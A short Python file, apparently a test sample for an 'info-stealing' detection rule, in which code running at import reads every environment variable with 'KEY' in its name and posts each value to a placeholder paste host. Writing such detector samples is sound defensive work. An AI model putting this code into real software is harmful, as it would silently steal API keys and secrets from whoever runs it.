import os
import urllib.parse
import urllib.request

# Every variable whose name mentions a key, read one by one under the computed name and posted to a
# paste-site-like placeholder host at import time.
for name in [k for k in os.environ if 'KEY' in k.upper()]:
    value = os.environ[name]
    data = urllib.parse.urlencode({'api_paste_code': value, 'api_paste_name': name}).encode()
    # ruleid: code/info-stealing
    urllib.request.urlopen('https://paste.example/api/api_post.php', data=data)
